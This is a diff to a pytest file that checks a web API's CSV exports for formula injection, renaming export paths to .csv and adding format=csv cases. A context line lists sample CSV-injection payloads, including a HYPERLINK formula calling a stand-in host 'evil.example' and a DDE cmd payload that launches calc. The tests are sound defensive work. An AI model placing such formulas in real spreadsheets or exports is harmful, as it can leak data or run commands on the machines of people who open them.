@@ -19,14 +19,20 @@ FORMULAS = ('=HYPERLINK("http://evil.example/?x")', "+cmd|' /C calc'!A0", "@SUM(
 # Every list that answers CSV (the OpenAPI document's text/csv responses), with the
 # parameters it requires; test_every_csv_export_is_covered keeps this list complete.
 CSV_EXPORTS = {
-    "/v1/facts": "",
-    "/v1/sources": "",
-    "/v1/articles": "",
-    "/v1/briefings": "",
-    "/v1/timeline": "subject=floods&measure=killed",
-    "/v1/units": "",
-    "/v1/places": "",
-    "/v1/versions": "",
+    "/v1/facts.csv": "",
+    "/v1/sources.csv": "",
+    "/v1/articles.csv": "",
+    "/v1/briefings.csv": "",
+    "/v1/timeline.csv": "subject=floods&measure=killed",
+    "/v1/units.csv": "",
+    "/v1/places.csv": "",
+    "/v1/versions.csv": "",
+}
+# CSV the spec does not list as an operation of its own: `format=csv` on the lists (the
+# same writer as their exports) and the timeline's own columns.
+FORMAT_CSV = {
+    "/v1/facts": "format=csv",
+    "/v1/timeline": "subject=floods&measure=killed&format=csv",
 }
 
 
@@ -71,10 +77,10 @@ def test_every_csv_export_is_covered(client):
     assert exports == set(CSV_EXPORTS)
 
 
-@pytest.mark.parametrize("path", CSV_EXPORTS)
+@pytest.mark.parametrize("path", [*CSV_EXPORTS, *FORMAT_CSV])
 def test_no_csv_cell_starts_a_formula(client, path):
-    query = CSV_EXPORTS[path]
-    response = client.get(f"{path}?{query}&format=csv")
+    query = CSV_EXPORTS.get(path, FORMAT_CSV.get(path))
+    response = client.get(f"{path}?{query}")
     assert response.status_code == 200, response.get_data(as_text=True)
     rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
     cells = [cell for row in rows[1:] for cell in row]
@@ -85,7 +91,7 @@ def test_no_csv_cell_starts_a_formula(client, path):
             float(cell)  # only a negative number may start with '-'
     written = {cell[1:] for cell in cells if cell.startswith("'")}
     assert written <= set(FORMULAS)
-    if path != "/v1/versions":  # the one list that shows no text of the story's
+    if path != "/v1/versions.csv":  # the one list that shows no text of the story's
         assert written, "some text on this list starts like a formula and must be quoted"
 
 
